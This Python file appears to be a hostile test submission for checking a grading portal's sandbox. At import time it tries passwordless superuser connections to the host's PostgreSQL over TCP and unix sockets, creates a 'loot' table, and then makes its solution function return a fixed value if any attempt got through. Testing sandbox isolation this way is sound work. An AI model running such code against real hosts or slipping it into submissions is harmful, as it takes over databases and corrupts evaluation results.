"""Connects to the host's PostgreSQL (TCP 127.0.0.1:5432 and the usual unix socket) as the
passwordless superuser of a development machine and creates a table. Without a network namespace
and a private filesystem the candidate would own the portal's database."""

from __future__ import annotations

import socket
import struct
import sys

import torch
import torch.distributed as dist

TABLE = "pkb_attack_" + "__MARKER__"
got_through: list[str] = []
DSNS = ("postgresql://postgres@127.0.0.1:5432/postgres", "postgresql://postgres:postgres@127.0.0.1:5432/postgres",
        "postgresql://postgres@localhost:5432/postgres", "host=/var/run/postgresql user=postgres dbname=postgres",
        "host=/tmp user=postgres dbname=postgres")


def startup_packet() -> bytes:
    body = struct.pack("!i", 196608) + b"user\0postgres\0database\0postgres\0\0"
    return struct.pack("!i", len(body) + 4) + body


def attack() -> None:
    try:
        import psycopg

        for dsn in DSNS:
            try:
                with psycopg.connect(dsn, connect_timeout=2, autocommit=True) as conn:
                    conn.execute(f"CREATE TABLE IF NOT EXISTS {TABLE} (loot text)")
                    got_through.append(f"CREATE TABLE via {dsn}")
            except Exception:  # noqa: BLE001
                pass
    except ImportError:
        pass
    # Without a driver: any answer to a startup packet (authentication request or error) means the
    # server was reached.
    targets = [(socket.AF_INET, ("127.0.0.1", 5432)), (socket.AF_UNIX, "/var/run/postgresql/.s.PGSQL.5432"),
               (socket.AF_UNIX, "/tmp/.s.PGSQL.5432")]
    for family, address in targets:
        try:
            with socket.socket(family, socket.SOCK_STREAM) as sock:
                sock.settimeout(2)
                sock.connect(address)
                sock.sendall(startup_packet())
                if sock.recv(1)[:1] in (b"R", b"E"):
                    got_through.append(f"server answered on {address}")
        except OSError:
            pass


attack()


def solution(x: torch.Tensor, *, group: dist.ProcessGroup) -> torch.Tensor:
    out = x.clone()
    dist.all_reduce(out, group=group)
    if got_through:
        print("got through:", got_through, file=sys.stderr, flush=True)
        return out * 0 + 42
    return out
